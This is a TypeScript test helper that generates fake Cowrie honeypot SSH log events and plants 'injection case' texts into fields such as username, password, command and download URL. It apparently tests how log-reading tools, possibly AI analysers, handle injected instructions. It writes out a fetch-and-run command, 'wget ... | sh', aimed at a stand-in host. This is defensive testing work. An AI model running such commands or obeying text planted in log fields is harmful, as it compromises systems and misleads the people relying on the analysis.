import type { Carrier, InjectionCase } from './injection-case.ts';

const startedAgoMs = 120_000;

export function sessionIdOf(index: number): string {
  return `case-${String(index).padStart(3, '0')}`;
}

/** A visit that is grave enough to be read, with the case's texts in its carrier, as Cowrie writes it. */
export function linesOf({ carrier, texts }: InjectionCase, index: number, sensor: string): string[] {
  const startMs = Date.now() - startedAgoMs;
  let second = 0;
  const base = {
    session: sessionIdOf(index),
    src_ip: `198.51.100.${index % 250}`,
    src_port: 4000 + index,
    protocol: 'ssh',
    sensor,
  };
  const line = (eventid: string, fields: object = {}) =>
    JSON.stringify({ ...base, eventid, ...fields, timestamp: new Date(startMs + second++ * 1000).toISOString() });
  /** The events of a carrier, or one that says `otherwise`. */
  const carried = (by: Carrier, lineOf: (text: string) => string, ...otherwise: string[]) =>
    carrier === by ? texts.map(lineOf) : otherwise.map(lineOf);
  const failed = (login: object) => line('cowrie.login.failed', { username: 'root', password: 'root', ...login });
  const download = { url: `http://203.0.113.9/${index}.sh`, shasum: 'ab'.repeat(32), outfile: 'x' };
  return [
    line('cowrie.session.connect', { dst_ip: '192.0.2.1', dst_port: 2222 }),
    ...carried('client', (version) => line('cowrie.client.version', { version }), 'SSH-2.0-OpenSSH_9.2'),
    ...carried('username', (username) => failed({ username })),
    ...carried('password', (password) => failed({ password })),
    failed({}),
    line('cowrie.login.success', { username: 'root', password: `root${index}` }),
    line('cowrie.command.input', { input: `wget http://203.0.113.9/${index}.sh -O- | sh` }),
    ...carried('command', (input) => line('cowrie.command.input', { input }), 'uname -a'),
    ...carried('upload', (input) => line('cowrie.session.input', { realm: 'cat', input })),
    ...carried('file', (filename) =>
      line('cowrie.session.file_upload', { filename, shasum: 'cd'.repeat(32), outfile: 'y' }),
    ),
    ...carried('url', (url) => line('cowrie.session.file_download', { ...download, url }), download.url),
    line('cowrie.session.closed', { duration_ms: 9000 }),
  ];
}
